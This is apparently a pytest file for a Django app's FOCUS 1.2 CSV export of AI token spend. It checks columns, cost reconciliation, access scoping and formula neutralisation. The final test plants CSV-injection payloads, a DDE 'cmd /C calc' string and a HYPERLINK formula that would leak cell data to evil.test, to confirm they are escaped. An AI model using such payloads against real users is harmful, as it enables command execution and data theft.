"""FOCUS 1.2 export: streamed, mandatory columns present, values parse and add up to the rollups."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from decimal import Decimal

import pytest
import time_machine
from django.core.management import call_command
from django.db.models import Sum
from django.http import StreamingHttpResponse
from django.urls import reverse

from billing import exports
from billing.models import SpendEvent, SpendRollupHourly
from billing.services import spend_seed

NOW = datetime(2026, 11, 20, 12, 30, tzinfo=UTC)


@pytest.fixture
def seeded(db):
    with time_machine.travel(NOW, tick=False):
        call_command("seed_demo", stdout=io.StringIO())
        spend_seed(events=800, days=15, end=NOW)
        yield


def _rows(response):
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def _is_number(value: str) -> bool:
    try:
        Decimal(value)
    except ArithmeticError:
        return False
    return True


def _parse_time(value: str) -> datetime:
    return datetime.strptime(value, "%Y-%m-%dT%H:%M:%S.%fZ").replace(tzinfo=UTC)


def test_focus_header_has_every_mandatory_column_and_only_spec_or_x_columns():
    header = exports.FOCUS_COLUMNS + exports.EXTENSION_COLUMNS
    assert set(exports.FOCUS_MANDATORY) <= set(header)
    assert len(header) == len(set(header))
    assert all(name.startswith("x_") for name in exports.EXTENSION_COLUMNS)


def test_focus_export_streams_parseable_rows_that_add_up(client, seeded):
    client.login(username="vp", password="demo-vp-pass")
    response = client.get(reverse("focus-export"), {"start": "2026-11-10", "end": "2026-11-19"})
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="focus-2026-11-10-2026-11-19.csv"'
    rows = _rows(response)
    start, end = datetime(2026, 11, 10, tzinfo=UTC), datetime(2026, 11, 20, tzinfo=UTC)
    events = SpendEvent.objects.filter(start_time__gte=start, start_time__lt=end)
    assert len(rows) == events.count() > 0
    assert set(exports.FOCUS_MANDATORY) <= set(rows[0])
    for row in rows:
        for column in (
            "BilledCost",
            "EffectiveCost",
            "ListCost",
            "ContractedCost",
            "x_BaselineCost",
            "x_Savings",
        ):
            Decimal(row[column])  # parses
        assert row["BilledCost"] == row["EffectiveCost"] == row["ListCost"] == row["ContractedCost"]
        assert start <= _parse_time(row["ChargePeriodStart"]) < _parse_time(row["ChargePeriodEnd"])
        assert _parse_time(row["BillingPeriodStart"]) == datetime(2026, 11, 1, tzinfo=UTC)
        assert _parse_time(row["BillingPeriodEnd"]) == datetime(2026, 12, 1, tzinfo=UTC)
        assert row["ChargeCategory"] == "Usage" and row["ChargeClass"] == ""
        assert row["ServiceCategory"] == "AI and Machine Learning"
        assert row["BillingCurrency"] == "USD" and row["PricingUnit"] == row["ConsumedUnit"] == "Tokens"
        assert int(row["PricingQuantity"]) == int(row["x_InputTokens"]) + int(row["x_OutputTokens"])
        assert row["SkuId"] in {"openai/llama-3-8b-instruct", "anthropic/claude-sonnet-4-5"}
        tags = json.loads(row["Tags"])
        assert tags["team"] == row["SubAccountId"] and row["ResourceId"] == f"feature/{tags['feature']}"
        assert tags["route"] in {"small", "frontier"}
        assert row["x_Fallback"] in {"true", "false"}
    billed = sum(Decimal(r["BilledCost"]) for r in rows)
    savings = sum(Decimal(r["x_Savings"]) for r in rows)
    rollups = SpendRollupHourly.objects.filter(hour__gte=start, hour__lt=end).aggregate(
        cost=Sum("cost_usd"), baseline=Sum("baseline_cost_usd")
    )
    assert billed == rollups["cost"]
    assert savings == rollups["baseline"] - rollups["cost"]  # x_ savings reconcile with the dashboards
    providers = {r["SkuId"]: (r["ProviderName"], r["PublisherName"]) for r in rows}
    assert providers["anthropic/claude-sonnet-4-5"] == ("Anthropic", "Anthropic")
    assert providers["openai/llama-3-8b-instruct"] == ("Self-hosted", "Meta")


def test_focus_export_is_scoped_to_what_the_user_may_see(client, seeded):
    client.login(username="pm-growth", password="demo-pm-pass")
    rows = _rows(client.get(reverse("focus-export"), {"start": "2026-11-01"}))
    assert rows and {json.loads(r["Tags"])["team"] for r in rows} == {"growth"}
    narrowed = _rows(client.get(reverse("focus-export"), {"start": "2026-11-01", "feature": "email-copy"}))
    assert narrowed and {r["ResourceId"] for r in narrowed} == {"feature/email-copy"}
    refused = client.get(reverse("focus-export"), {"feature": "ticket-summary"})
    assert refused.status_code == 400 and b"no feature" in refused.content


def test_focus_export_of_an_empty_range_is_just_the_header(client, seeded):
    client.login(username="vp", password="demo-vp-pass")
    response = client.get(reverse("focus-export"), {"start": "2025-01-01", "end": "2025-01-31"})
    text = b"".join(response.streaming_content).decode()
    assert text.strip() == ",".join(exports.FOCUS_COLUMNS + exports.EXTENSION_COLUMNS)


def test_exports_neutralise_cells_a_spreadsheet_would_run_as_formulas(client, seeded):
    from controlplane.models import Feature, Team

    Team.objects.filter(slug="growth").update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    Feature.objects.filter(slug="email-copy").update(name='=HYPERLINK("http://evil.test/?"&A1,"x")')
    client.login(username="vp", password="demo-vp-pass")
    rows = _rows(client.get(reverse("focus-export"), {"start": "2026-11-01", "feature": "email-copy"}))
    assert rows
    assert {r["ResourceName"] for r in rows} == {'\'=HYPERLINK("http://evil.test/?"&A1,"x")'}
    assert {r["SubAccountName"] for r in rows} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
    for row in rows:  # numbers (a negative saving) stay numbers; every text cell is safe
        texts = [v for v in row.values() if v and not _is_number(v)]
        assert not any(v.startswith(exports.FORMULA_TRIGGERS) for v in texts), row
    assert [exports.neutralise(v) for v in ("+1", "-x", "\tx", "\rx", "ok", "")] == [
        "'+1",
        "'-x",
        "'\tx",
        "'\rx",
        "ok",
        "",
    ]
